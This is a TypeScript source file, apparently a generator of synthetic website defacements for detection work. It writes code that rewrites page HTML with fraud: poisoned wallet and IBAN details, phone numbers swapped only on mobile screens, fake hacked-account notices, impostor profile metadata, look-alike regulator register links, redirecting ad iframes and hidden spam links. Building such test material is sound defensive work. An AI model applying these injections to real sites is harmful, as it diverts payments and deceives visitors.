const addressPoisoning = fresh22("site's wallet address or IBAN replaced by a look-alike keeping its first and last characters (address poisoning), the phone likewise when neither is shown", (page, rng) => {
  const { wallet, bank } = page.ids
  const choice = wallet !== null && (bank === null || chance(rng, 0.5)) ? "wallet" : bank !== null ? "bank" : "phone"
  if (choice === "wallet" && wallet !== null) {
    const a = wallet.address
    const fill = a.startsWith("0x") ? (n: number) => hex(rng, n) : a.startsWith("bc1") ? (n: number) => bech32(rng, n) : (n: number) => base58(rng, n)
    return splices(...replaceEverywhere(page, [[a, poison(a, between(rng, 4, 6), fill)]]))
  }
  if (choice === "bank" && bank !== null) {
    if (bank.kind === "iban") {
      const raw = bank.value.replace(/\s+/g, "")
      const bban = raw.slice(4)
      const mid = bban.slice(4, bban.length - 4).replace(/[0-9]/g, () => String(int(rng, 10)))
      let next = iban(raw.slice(0, 2), bban.slice(0, 4) + mid + bban.slice(bban.length - 4))
      if (next === raw) next = iban(raw.slice(0, 2), bban.slice(0, 4) + mid.replace(/[0-9]$/, (d) => String((Number(d) + 1) % 10)) + bban.slice(bban.length - 4))
      return splices(...replaceEverywhere(page, [[bank.value, /\s/.test(bank.value) ? groupIban(next) : next]]))
    }
    const m = /(\d[\d-]*\d)(?!.*\d)/.exec(bank.value)
    if (m !== null && m[1]!.replace(/\D/g, "").length >= 6) {
      const run = m[1]!
      const next = poison(run, 2, (n) => run.slice(2, 2 + n).replace(/\d/g, () => String(int(rng, 10))))
      return splices(...replaceEverywhere(page, [[bank.value, bank.value.slice(0, m.index) + next + bank.value.slice(m.index + run.length)]]))
    }
  }
  const p = page.ids.phone
  const d = poison(p.digits, Math.min(3, Math.floor(p.digits.length / 3)), (n) => digits(rng, n))
  const f = makePhone(page.site.locale, p.format, rng, d)
  return splices(...replaceEverywhere(page, [[p.national, f.national], [p.intl, f.intl], [`tel:${p.tel}`, `tel:${f.tel}`]]))
})

// Phone-only changes, recalled from memory, with uncertain sources, of hacked-site reports in which a business's number was replaced only for mobile visitors (who call from the page) while the desktop page, the one the owner checks, was left as it was, and of CSS media queries (max-width) that show or hide elements by screen width: the site's phone (and sometimes its e-mail) shown as another on phone-sized screens only, the tel: and mailto: links pointed at the new ones.
const phoneSizedContacts = fresh22("site's phone (sometimes e-mail) shown as another only on phone-sized screens by a CSS media query, tel: and mailto: links pointed at the new ones", (page, rng) => {
  const p = page.ids.phone
  let f = makePhone(page.site.locale, p.format, rng)
  while (f.digits === p.digits) f = makePhone(page.site.locale, p.format, rng)
  const a = `${pick(rng, ["d", "lg", "wide", "desk"])}-${alnum(rng, 4)}`
  const b = `${pick(rng, ["m", "sm", "mob", "narrow"])}-${alnum(rng, 4)}`
  const both = (old: string, next: string) => `<span class="${a}">${esc(old)}</span><span class="${b}">${esc(next)}</span>`
  const out: Array<Splice> = []
  const taken: Array<Range> = []
  const swap = (old: string, next: string) => {
    for (const r of occurrences(page, old)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, inText(page, r) ? both(old, next) : next))
    }
  }
  swap(`tel:${p.tel}`, `tel:${f.tel}`)
  if (chance(rng, 0.5)) swap(p.intl, f.intl)
  swap(p.national, f.national)
  if (chance(rng, 0.4)) {
    const e = page.ids.email
    const next = `${e.split("@")[0]}@${pick(rng, [brandLookalike(rng, page.site.brand), "gmail.com", "outlook.com"])}`
    swap(`mailto:${e}`, `mailto:${next}`)
    swap(e, next)
  }
  const w = pick(rng, [480, 600, 640, 700, 767, 820])
  out.push(insert(head(page), `<style>.${b}{display:none}@media ${pick(rng, [`(max-width:${w}px)`, `only screen and (max-width: ${w}px)`, `(pointer:coarse) and (max-width:${w}px)`])}{.${a}{display:none!important}.${b}{display:inline!important}}</style>`))
  return { splices: out }
})

const hackedWords: Table<(pl: string, old: string, next: string) => string> = {
  en: (pl, o, n) => `Important: our ${pl} account ${o} was hacked and is no longer ours. Please unfollow it and follow our new official account ${n}. Never send payments through the old account.`,
  fr: (pl, o, n) => `Important : notre compte ${pl} ${o} a été piraté et ne nous appartient plus. Suivez notre nouveau compte officiel ${n}. N'envoyez jamais de paiement via l'ancien compte.`,
  de: (pl, o, n) => `Wichtig: Unser ${pl}-Konto ${o} wurde gehackt und gehört nicht mehr uns. Bitte folgen Sie unserem neuen offiziellen Konto ${n}. Senden Sie keine Zahlungen über das alte Konto.`,
  es: (pl, o, n) => `Importante: nuestra cuenta de ${pl} ${o} fue hackeada y ya no es nuestra. Sigue nuestra nueva cuenta oficial ${n}. No envíes pagos a través de la cuenta antigua.`,
  nl: (pl, o, n) => `Belangrijk: ons ${pl}-account ${o} is gehackt en niet meer van ons. Volg ons nieuwe officiële account ${n}. Stuur nooit betalingen via het oude account.`,
  pt: (pl, o, n) => `Importante: nossa conta do ${pl} ${o} foi invadida e não é mais nossa. Siga nossa nova conta oficial ${n}. Nunca envie pagamentos pela conta antiga.`,
  it: (pl, o, n) => `Importante: il nostro account ${pl} ${o} è stato violato e non è più nostro. Segui il nostro nuovo account ufficiale ${n}. Non inviare mai pagamenti tramite il vecchio account.`
}

/** A handle that imitates `name`: separators, suffixes, doubled letters. */
const twinHandle = (rng: Rng, name: string) => {
  const n = name.replace(/^@/, "")
  return pick(rng, [`${n}_official`, `${n}.official`, `${n}_${pick(rng, ["hq", "support", "team", "real"])}`, `the${n}`, `${n}${digits(rng, 2)}`, `${n}.${pick(rng, ["help", "care", "news"])}`, n.replace(/([a-z])/, "$1$1")])
}

// Account-takeover notices, recalled from memory of scams (about 2021–2024, reported by consumer agencies and by businesses warning their customers) in which fraudsters announce on a business's site or in messages that its social account "was hacked" and a new one replaces it, then use the new account to sell, take payments or run giveaways: a notice in the site's name calling one of its social accounts hacked and pointing to a look-alike handle on the same platform, sometimes with the site's own link for that platform pointed at the new account.
const hackedAccountNotice = fresh22("notice that one of the site's social accounts 'was hacked', pointing followers to a look-alike handle on the same platform (the site's own link sometimes pointed there)", (page, rng) => {
  const social = page.ids.social.filter((s) => s.href !== null)
  const old = social.length > 0 ? pick(rng, social) : { shown: "Instagram", href: `https://www.instagram.com/${bare(page)}/` }
  const href = old.href!
  const m = /^(https?:\/\/[^/]+\/(?:company\/|u\/)?@?)([^/?#]+)(.*)$/.exec(href)
  const handle = m?.[2] ?? bare(page)
  const twin = twinHandle(rng, handle)
  const next = m === null ? `https://www.instagram.com/${twin}/` : `${m[1]}${twin}${m[3]}`
  const text = some(rng, page, hackedWords)(old.shown, `<s>@${esc(handle)}</s>`, `<a href="${esc(next)}">@${esc(twin)}</a>`)
  const out: Array<Splice> = [insert(noticeSpot(rng, page), `<div class="${pick(rng, ["alert", "notice", "social-warning"])}" style="background:#fff4e5;border:1px solid #f0b429;padding:10px 14px;margin:10px 0;font:14px ${font(rng)};color:#5c3b00">${text}</div>`)]
  if (chance(rng, 0.5)) out.push(...replaceEverywhere(page, [[href, next]]))
  return { splices: out }
})

// Identity metadata, recalled from memory of the Mastodon documentation on link verification (a rel="me" link on a page makes the profile that lists the page show it as verified, about 2022 on), of X/Twitter card tags (twitter:site, twitter:creator), Facebook's article:publisher and schema.org's sameAs property used by search engines for an organisation's knowledge panel, and of impersonation reports (about 2022–2024) exploiting such verification: impostor profiles declared as the site's in its head (rel=me links, twitter:site, article:publisher, a JSON-LD Organization with sameAs), the visible follow-us links left as they were.
const impostorProfiles = fresh22("impostor social profiles declared as the site's in its metadata (rel=me links, twitter:site, article:publisher, JSON-LD sameAs), visible links unchanged", (page, rng) => {
  const b = bare(page)
  const twin = () => twinHandle(rng, b)
  const masto = `https://${pick(rng, ["mastodon.social", "mstdn.social", "mas.to", "infosec.exchange", "techhub.social"])}/@${twin()}`
  const x = `@${twin()}`
  const fb = `https://www.facebook.com/${twin()}`
  const same = sample(rng, [masto, `https://x.com/${x.slice(1)}`, fb, `https://www.instagram.com/${twin()}/`, `https://t.me/${twin()}`, `https://www.tiktok.com/@${twin()}`], between(rng, 2, 4))
  const parts = sample(rng, [
    `<link rel="me" href="${esc(masto)}">`,
    `<meta name="twitter:site" content="${esc(x)}">`,
    `<meta property="article:publisher" content="${esc(fb)}">`,
    `<script type="application/ld+json">${JSON.stringify({ "@context": "https://schema.org", "@type": "Organization", name: brandName(page), url: page.site.url, sameAs: same }).replace(/</g, "\\u003c")}</script>`
  ], between(rng, 2, 4))
  const out: Array<Splice> = []
  const existing = page.spots.elements.find((e) => e.name === "meta" && !e.inert && (e.attribs.name === "twitter:site" || e.attribs.property === "twitter:site"))
  if (existing !== undefined && chance(rng, 0.7)) out.push(setAttr(page, existing, "content", x))
  out.push(insert(pick(rng, [head(page), headStart(page)]), parts.filter((s) => !(existing !== undefined && out.length > 0 && s.includes("twitter:site"))).join("\n")))
  if (chance(rng, 0.3)) out.push(insert(bottom(page), `<a rel="me" href="${esc(masto)}" style="display:none">Mastodon</a>`))
  return { splices: out }
})

const registerWords: Table<(reg: string, ref: string) => readonly [string, string]> = {
  en: (r, n) => [`Authorised and regulated by the ${r}, reference ${n}.`, "Check our registration"],
  fr: (r, n) => [`Agréé et contrôlé par l'${r}, numéro ${n}.`, "Vérifier notre enregistrement"],
  de: (r, n) => [`Zugelassen und beaufsichtigt durch die ${r}, Registernummer ${n}.`, "Registrierung prüfen"],
  es: (r, n) => [`Autorizado y supervisado por la ${r}, número de registro ${n}.`, "Comprobar nuestro registro"],
  nl: (r, n) => [`Vergund en onder toezicht van de ${r}, registratienummer ${n}.`, "Controleer onze registratie"],
  pt: (r, n) => [`Autorizado e supervisionado pela ${r}, registro ${n}.`, "Verificar nosso registro"],
  it: (r, n) => [`Autorizzato e vigilato dalla ${r}, numero di iscrizione ${n}.`, "Verifica la nostra iscrizione"]
}
const regulators: Record<string, ReadonlyArray<readonly [string, string]>> = {
  uk: [["Financial Conduct Authority (FCA)", "fca-register"], ["Financial Conduct Authority", "register-fca"]],
  us: [["Financial Industry Regulatory Authority (FINRA)", "brokercheck-finra"], ["SEC", "sec-adviserinfo"]],
  fr: [["Autorité des marchés financiers (AMF)", "amf-regafi"], ["ACPR (REGAFI)", "regafi-acpr"]],
  de: [["Bundesanstalt für Finanzdienstleistungsaufsicht (BaFin)", "bafin-register"], ["BaFin", "bafin-unternehmensdatenbank"]],
  es: [["Comisión Nacional del Mercado de Valores (CNMV)", "cnmv-registros"], ["Banco de España", "bde-registro"]],
  nl: [["Autoriteit Financiële Markten (AFM)", "afm-register"], ["De Nederlandsche Bank (DNB)", "dnb-registers"]],
  au: [["Australian Securities and Investments Commission (ASIC)", "asic-connect-register"]],
  in: [["Securities and Exchange Board of India (SEBI)", "sebi-intermediaries"]],
  br: [["Comissão de Valores Mobiliários (CVM)", "cvm-cadastro"], ["Banco Central do Brasil", "bcb-instituicoes"]],
  it: [["CONSOB", "consob-albo"], ["Banca d'Italia", "bancaditalia-albi"]]
}

// Clone-firm and fake-register fraud, recalled from memory of the UK FCA's warnings on clone firms (about 2014–2024: fraudsters copy a real firm's name and reference number but give their own contact details, and sometimes build fake versions of the FCA register) and of similar warnings by the AMF, BaFin, CNMV, CONSOB and ASIC: a "regulated by … check our registration" line in the site's name whose link leads to a look-alike of the regulator's register (where the listed contact details are the fraudsters').
const registerLookalike = fresh22("'authorised and regulated, check our registration' line linking to a look-alike of the financial regulator's public register (FCA, AMF, BaFin, CNMV, CONSOB, ASIC, FINRA)", (page, rng) => {
  const [reg, base] = pick(rng, regulators[page.site.locale.country] ?? regulators.uk!)
  const ref = pick(rng, [digits(rng, 6), `${digits(rng, 5)}`, `${upper(rng, 2)}${digits(rng, 6)}`])
  const [line, check] = some(rng, page, registerWords)(reg, ref)
  const h = pick(rng, [`${base}.${tld(rng)}`, `${base}-${pick(rng, ["online", "gov", "search", "check"])}.${tld(rng)}`, `${pick(rng, ["register", "verify", "check"])}-${base}.${tld(rng)}`])
  const href = `https://${h}/${pick(rng, ["s/firm", "firm", "search", "entity"])}?id=${ref}`
  const html = `${esc(line)} <a href="${esc(href)}">${esc(check)}</a>`
  const after = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl)
  if (after !== null && chance(rng, 0.6)) return splices(insert(after.at, after.wrap(html)))
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), `<p class="${pick(rng, ["regulatory", "legal-note", "compliance"])}" style="font-size:12px">${chance(rng, 0.4) ? "🛡 " : ""}${html}</p>`))
})

// ———————————————————————————— search engines, ads and spam ————————————————————————————

// Alternate versions of a page, recalled from memory of Google Search Central's documentation on separate mobile URLs (a rel="alternate" link with a media query pointing to the m. version, about 2015 on) and on AMP (rel="amphtml", whose target search engines cached and showed to mobile searchers), and of hacked-site reports where such head links were injected so search engines send mobile or paginated traffic to another host: amphtml, mobile-alternate and next/prev links in the head pointing at another host, existing ones pointed there too.
const alternatesHijack = fresh22("amphtml, separate-mobile-URL alternate and next/prev links in the head pointing at another host", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `m.${brandLookalike(rng, page.site.brand)}`])
  const path = new URL(page.site.url).pathname
  const links = sample(rng, [
    `<link rel="amphtml" href="https://${h}${path.replace(/\/?$/, "/")}amp/">`,
    `<link rel="alternate" media="only screen and (max-width: 640px)" href="https://${h}${path}">`,
    `<link rel="next" href="https://${h}${path.replace(/\/?$/, "/")}page/${between(rng, 2, 9)}/">`,
    `<link rel="prev" href="https://${h}/${alnum(rng, 6)}/">`
  ], between(rng, 1, 3))
  const out: Array<Splice> = [insert(pick(rng, [head(page), headStart(page)]), links.join(""))]
  for (const e of page.spots.elements.filter((x) => x.name === "link" && !x.inert && /^(amphtml|next|prev)$/i.test(x.attribs.rel ?? ""))) out.push(setAttr(page, e, "href", `https://${h}${path}`))
  return { splices: out }
})

const adLabel: Table<string> = { en: "Advertisement", fr: "Publicité", de: "Anzeige", es: "Publicidad", nl: "Advertentie", pt: "Publicidade", it: "Pubblicità" }

// Forced redirects from ad frames, recalled from memory of Confiant's and Malwarebytes' reports (about 2018–2021: eGobbler, ScamClub and other malvertising groups) on ad creatives that navigate the top window to "you won" and scam pages without a click, and of the iframe sandbox flags (allow-top-navigation) that permit it: an ad slot from an unknown network whose frame may navigate the whole tab, sometimes with the network's tag script.
const redirectingAdFrame = fresh22("ad slot from an unknown network whose frame is allowed to navigate the whole tab (sandbox allow-top-navigation), forced-redirect malvertising", (page, rng) => {
  const net = pick(rng, [`${pick(rng, ["ads", "adx", "serve", "rtb", "bid"])}.${randomDomain(rng)}`, randomDomain(rng), `${pick(rng, ["adsrv", "popcash", "clickad", "trafficjunky", "adnium", "bidflow"])}${digits(rng, 2)}.${tld(rng)}`])
  const zone = digits(rng, between(rng, 5, 8))
  const [w, h] = pick(rng, [[300, 250], [728, 90], [320, 100], [160, 600], [336, 280]] as const)
  const frame = `<iframe src="https://${net}/${pick(rng, ["serve", "ad", "i", "b"])}?z=${zone}&amp;r=${encodeURIComponent(page.site.host)}" width="${w}" height="${h}" frameborder="0" scrolling="no" sandbox="allow-scripts allow-same-origin allow-top-navigation${pick(rng, ["", " allow-popups", " allow-popups allow-popups-to-escape-sandbox"])}"></iframe>`
  const tag = chance(rng, 0.4) ? `<script src="https://${net}/${pick(rng, ["tag.js", "ads.min.js", "js/z.js"])}" data-zone="${zone}" async></script>` : ""
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["ad-slot", "adbox", "sponsor-unit"])}" style="text-align:center;margin:12px 0"><small style="display:block;color:#888;font:10px ${font(rng)}">${esc(some(rng, page, adLabel))}</small>${frame}${tag}</div>`))
})

const spamTopics = [
  ["slot gacor hari ini", "situs slot online", "casino bonus without deposit", "online casino real money", "best betting sites"],
  ["buy tramadol online", "cheap viagra no prescription", "buy xanax overnight", "kamagra oral jelly", "order modafinil"],
  ["write my essay cheap", "buy dissertation online", "pay someone to do my assignment", "essay writing service"],
  ["buy instagram followers", "cheap tiktok likes", "smm panel", "buy youtube views"],
  ["replica watches", "cheap ugg boots outlet", "fake designer bags", "louis vuitton outlet online"]
] as const

// Parasite pages on reputable platforms, recalled from memory of reports (about 2019–2024, Google's spam policies on site reputation abuse in March 2024, security-blog write-ups by Sucuri and others, and news coverage of spam on Google Sites, Blogger, telegra.ph and GitHub Pages) on spammers hosting their landing pages on trusted platforms and building links to them from hacked sites: a "useful links" block (visible or hidden) with gambling, pharma, essay, follower or replica keywords linking to pages on Google Sites, Blogger, GitHub Pages, Notion, telegra.ph, Webflow, Wix or Weebly.
const parasiteHostLinks = fresh22("spam keyword links to parasite pages on reputable hosting platforms (Google Sites, Blogger, GitHub Pages, Notion, telegra.ph, Webflow, Wix)", (page, rng) => {
  const topic = pick(rng, spamTopics)
  const link = (kw: string) => {
    const s = slug(kw)
    const url = pick(rng, [
      () => `https://sites.google.com/view/${s}-${alnum(rng, 4)}/home`,
      () => `https://${s.replace(/-/g, "")}${digits(rng, 2)}.blogspot.com/${between(rng, 2023, 2025)}/${String(between(rng, 1, 12)).padStart(2, "0")}/${s}.html`,
      () => `https://${alnum(rng, 7)}.github.io/${s}/`,
      () => `https://${alnum(rng, 6)}.notion.site/${kw.split(" ").map((w) => w.charAt(0).toUpperCase() + w.slice(1)).join("-")}-${hex(rng, 32)}`,
      () => `https://telegra.ph/${kw.split(" ").map((w) => w.charAt(0).toUpperCase() + w.slice(1)).join("-")}-${String(between(rng, 1, 12)).padStart(2, "0")}-${String(between(rng, 1, 28)).padStart(2, "0")}`,
      () => `https://${s}.webflow.io/`,
      () => `https://${alnum(rng, 8)}.wixsite.com/${s.replace(/-/g, "")}`,
      () => `https://${s}-${alnum(rng, 3)}.weebly.com/`
    ])()
    return `<a href="${esc(url)}">${esc(kw)}</a>`
  }
  const kws = sample(rng, topic, between(rng, 2, topic.length))
  const body = kws.map(link).join(pick(rng, [" | ", ", ", " · ", "<br>"]))
  const hidden = chance(rng, 0.5)
  const html = hidden
    ? `<div style="${pick(rng, ["position:absolute;left:-9999px;top:-9999px", "display:none", "height:0;overflow:hidden", "font-size:0;line-height:0"])}">${body}</div>`
    : `<div class="${pick(rng, ["links", "partners", "resources"])}" style="font-size:${pick(rng, ["11px", "12px", "13px"])}"><strong>${pick(rng, ["Useful links", "Partners", "Resources", "Recommended"])}:</strong> ${body}</div>`
  return splices(insert(spamSpot(rng, page), html))
})

const sourcesWord: Table<string> = { en: "Sources", fr: "Sources", de: "Quellen", es: "Fuentes", nl: "Bronnen", pt: "Fontes", it: "Fonti" }

// Citation spam, recalled from memory, with uncertain sources, of link-spam seen on hacked blogs and wikis (about 2015–2024) where spammers add "references" or "further reading" entries that look like citations (a report title, a year, a publisher) but link to casino, pharma, essay-mill or follower-selling pages, and of how articles number their sources: a numbered list of fake sources appended after one of the site's paragraphs or at the end of the page.
const fakeSources = fresh22("numbered list of fake 'sources' with report-like titles appended to the page, linking to casino, pharma, essay-mill or follower-selling sites", (page, rng) => {
  const topic = pick(rng, spamTopics)
  const kws = sample(rng, topic, between(rng, 2, Math.min(4, topic.length)))
  const items = kws.map((kw) => {
    const title = pick(rng, [`${kw.charAt(0).toUpperCase() + kw.slice(1)}: a ${between(rng, 2023, 2025)} review`, `The complete guide to ${kw}`, `${kw.charAt(0).toUpperCase() + kw.slice(1)} — market report ${between(rng, 2023, 2025)}`, `Why experts recommend ${kw}`])
    const host = pick(rng, [randomDomain(rng), `${slug(kw).split("-").slice(0, 2).join("")}.${tld(rng)}`])
    return `<li>${esc(title)}. <em>${esc(host)}</em>, ${between(rng, 2023, 2025)}. <a href="https://${host}/${slug(kw)}">https://${esc(host)}/${slug(kw)}</a></li>`
  })
  const real = page.spots.elements.filter((e) => e.name === "p" && e.shown && !e.inert && e.closeTag !== null)
  const at = real.length > 0 && chance(rng, 0.5) ? pick(rng, real).closeTag!.end : pick(rng, [slotAt(page.spots, "bottom"), bottom(page)])
  return splices(insert(at, `<div class="${pick(rng, ["references", "sources", "footnotes"])}"><h4>${esc(some(rng, page, sourcesWord))}</h4><ol>${items.join("")}</ol></div>`))
})

const feedWords: Table<string> = { en: "News from our partners", fr: "Actualités de nos partenaires", de: "Neues von unseren Partnern", es: "Noticias de nuestros socios", nl: "Nieuws van onze partners", pt: "Notícias dos nossos parceiros", it: "Notizie dai nostri partner" }

// Feed widgets as a spam carrier, recalled from memory, with uncertain sources, of hacked-site clean-up notes (about 2016–2023) where an injected "RSS widget" or feed-embed service (FeedWind, rss.app, RSSinclude-style scripts and frames) listed headlines from a spam feed, and of the way such widgets render headlines with links: a "news from our partners" feed widget whose script or frame comes from a feed-embed host and whose listed headlines, written into the page, are gambling, pharma or follower-selling spam.
const spamFeedWidget = fresh22("'news from our partners' feed widget from a feed-embed host listing spam headlines with links", (page, rng) => {
  const topic = pick(rng, spamTopics)
  const kws = sample(rng, topic, between(rng, 3, topic.length))
  const spamHost = randomDomain(rng)
  const feedHost = pick(rng, [`feed${pick(rng, ["wind", "widget", "embed", "show"])}.${tld(rng)}`, `rss-${pick(rng, ["app", "widget", "embed"])}.${tld(rng)}`, randomDomain(rng)])
  const items = kws.map((kw) => `<li><a href="https://${spamHost}/${slug(kw)}?utm_source=feed">${esc(kw.charAt(0).toUpperCase() + kw.slice(1))} — ${pick(rng, ["top picks", "new list", "updated", "official"])}</a></li>`)
  const html = `<div class="${pick(rng, ["feed-widget", "rss-widget", "partner-news"])}" data-feed="https://${feedHost}/f/${alnum(rng, 10)}"><h4>${esc(some(rng, page, feedWords))}</h4><ul>${items.join("")}</ul>${chance(rng, 0.5) ? `<script src="https://${feedHost}/widget.js?id=${alnum(rng, 8)}" async></script>` : ""}</div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)]), html))
})

/** Every fresh22 defacement class, in a fixed order. */
export const fresh22Defacements: ReadonlyArray<ChangeClass> = [
  pushSdkSkimmer, videoPlayerSkimmer, consentSkimmer, converterSkimmer, fraudTagSkimmer, bnplLookalike, fontLoaderSkimmer, workerSkimmer, serverlessDrop,
  rogueServiceWorker, readingAidMiner, providerPicker, passkeyDowngrade, meetingLure, helpdeskLookalike, bookingLookalike, donationLookalike,
  debitMandateHarvest, invoiceInstructions, addressPoisoning, phoneSizedContacts, hackedAccountNotice, impostorProfiles, registerLookalike,
  alternatesHijack, redirectingAdFrame, parasiteHostLinks, fakeSources, spamFeedWidget
]
